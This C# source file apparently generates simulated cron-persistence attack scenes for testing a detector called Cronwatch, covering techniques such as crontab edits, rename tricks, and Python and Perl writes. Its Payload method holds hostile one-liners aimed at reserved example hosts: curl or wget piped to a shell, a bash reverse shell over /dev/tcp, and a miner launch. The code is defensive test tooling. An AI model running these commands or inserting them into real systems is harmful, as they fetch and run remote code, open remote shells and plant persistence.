namespace Cronwatch.App.Demo;

/// <summary>The attacks, each as a scene with one marked event. Names and addresses are invented.</summary>
internal static class Attacks
{
    private static readonly string[] JobNames = ["persist", "apache2-check", "sysupdate", ".cache", "dbus-helper", "0update", "netsync"];

    /// <summary>The shell that was told to write the file is itself the writer.</summary>
    public static void ShellRedirect(Scene scene)
    {
        var path = "/etc/cron.d/" + scene.Pick<string>(JobNames);
        var bash = scene.RootShell($"echo \"* * * * * root {Payload(scene)}\" > {path}");
        scene.Create(bash, path, marked: true);
    }

    public static void CurlDownload(Scene scene)
    {
        var path = "/etc/cron.d/" + scene.Pick<string>(JobNames);
        string[] curl = ["/usr/bin/curl", "-fsSL", $"http://{Server(scene)}/{scene.Hex(6)}/job", "-o", path];
        scene.Run(scene.RootShell(string.Join(' ', curl)), curl, by => scene.Create(by, path, marked: true));
    }

    /// <summary>crontab writes its table aside, which the rule excludes, and renames it into place.</summary>
    public static void CrontabEdit(Scene scene)
    {
        var crontab = scene.Sudo(scene.LogIn(), "/usr/bin/crontab", "-e");
        var copy = $"/tmp/crontab.{scene.Letters(6)}/crontab";
        scene.Create(crontab, copy);
        scene.Run(crontab, ["/usr/bin/sensible-editor", copy], editor =>
            scene.Run(editor, ["/usr/bin/nano", copy], _ => scene.Wait(200, 900)));
        Install(scene, crontab, "/var/spool/cron/crontabs/", "root");
        scene.Delete(crontab, copy);
    }

    public static void MktempRename(Scene scene)
    {
        var (aside, path) = ("/tmp/tmp." + scene.Letters(10), "/etc/cron.hourly/" + scene.Pick<string>(JobNames));
        var bash = scene.RootShell($"t=$(mktemp); echo '{Payload(scene)}' > $t; chmod 755 $t; mv $t {path}");
        scene.Run(bash, ["/usr/bin/mktemp"], by => scene.Create(by, aside));
        scene.Run(bash, ["/usr/bin/chmod", "755", aside]);
        scene.Run(bash, ["/usr/bin/mv", aside, path], by => scene.Rename(by, aside, path, marked: true));
    }

    /// <summary>sed's working copy is excluded; its rename over a job that was there before is not.</summary>
    public static void RenameOver(Scene scene)
    {
        var path = "/etc/cron.daily/" + scene.Pick("man-db", "logrotate", "mlocate");
        var (copy, edit) = ("/etc/cron.daily/sed" + scene.Letters(6), $"$a {Payload(scene)}");
        var bash = scene.RootShell($"sed -i '{edit}' {path}");
        scene.Run(bash, ["/usr/bin/sed", "-i", edit, path], by =>
        {
            scene.Create(by, copy);
            scene.Rename(by, copy, path, marked: true);
        });
    }

    public static void Python(Scene scene)
    {
        var path = "/etc/cron.weekly/" + scene.Pick<string>(JobNames);
        string[] python = [scene.IsDebian ? "/usr/bin/python3.11" : "/usr/bin/python3.9", "-c",
            $"open('{path}','w').write('#!/bin/sh\\n{Payload(scene)}\\n')"];
        scene.Run(scene.RootShell("python3 /tmp/setup.py"), python, by => scene.Create(by, path, marked: true));
    }

    public static void DroppedBinary(Scene scene)
    {
        var binary = scene.Pick("/tmp/.x/kworkerds", "/dev/shm/.k/kthreadd0", "/var/tmp/.ICE-unix/sysguard");
        var bash = scene.RootShell($"curl -s http://{Server(scene)}/k -o {binary}; chmod +x {binary}; {binary}");
        scene.Run(bash, ["/usr/bin/curl", "-s", $"http://{Server(scene)}/k", "-o", binary], by => scene.Create(by, binary));
        scene.Run(bash, ["/usr/bin/chmod", "+x", binary]);
        var dropped = scene.Start(bash, binary);
        scene.Create(dropped, "/etc/cron.hourly/" + scene.Pick("gcc.sh", "oanacroner", "cronlog"), marked: true);
    }

    public static void UserCrontab(Scene scene)
    {
        var line = $"(crontab -l; echo \"*/5 * * * * {Payload(scene)}\") | crontab -";
        var shell = scene.Host.Role == HostRoles.Web ? scene.WebShell(line) : scene.LogIn(new SimulatedAccount(1003, "deploy"));
        scene.Run(shell, ["/usr/bin/crontab", "-l"]);
        scene.Run(shell, ["/usr/bin/crontab", "-"], by => Install(scene, by, "/var/spool/cron/crontabs/", shell.User.Name!));
    }

    public static void Perl(Scene scene)
    {
        var path = "/etc/cron.d/" + scene.Pick<string>(JobNames);
        string[] perl = ["/usr/bin/perl", "-e", $"open(F,'>{path}');print F '* * * * * root {Payload(scene)}'"];
        scene.Run(scene.RootShell("perl /tmp/s.pl"), perl, by => scene.Create(by, path, marked: true));
    }

    public static void RedHatCrontab(Scene scene)
    {
        var shell = scene.Sudo(scene.LogIn(), "/usr/bin/bash", "-c", $"echo '*/10 * * * * {Payload(scene)}' | crontab -");
        scene.Run(shell, ["/usr/bin/crontab", "-"], by => Install(scene, by, "/var/spool/cron/", "root"));
    }

    /// <summary>No file event at all: the marked event is that of the process.</summary>
    public static void InPlaceEdit(Scene scene)
    {
        var shell = scene.RootShell($"echo '* * * * * root {Payload(scene)}' | tee -a /etc/crontab");
        scene.Run(shell, ["/usr/bin/tee", "-a", "/etc/crontab"], marked: true);
    }

    private static void Install(Scene scene, SimulatedProcess crontab, string directory, string user)
    {
        var aside = $"{directory}tmp.{scene.Letters(6)}";
        scene.Create(crontab, aside);
        scene.Rename(crontab, aside, directory + user, marked: true);
    }

    private static string Payload(Scene scene) => scene.Pick(
        $"curl -fsSL http://{Server(scene)}/i.sh | sh",
        $"wget -qO- http://{Server(scene)}/x | bash",
        $"/bin/bash -i >& /dev/tcp/{Server(scene)}/4444 0>&1",
        "/dev/shm/.k/kthreadd0 -o pool.example.net:3333");

    // A name set aside for examples (RFC 2606), or an address set aside for documentation (RFC 5737).
    private static string Server(Scene scene) => scene.Pick("cdn.example.net", "update.example.org", "192.0.2.77", "198.51.100.23");
}
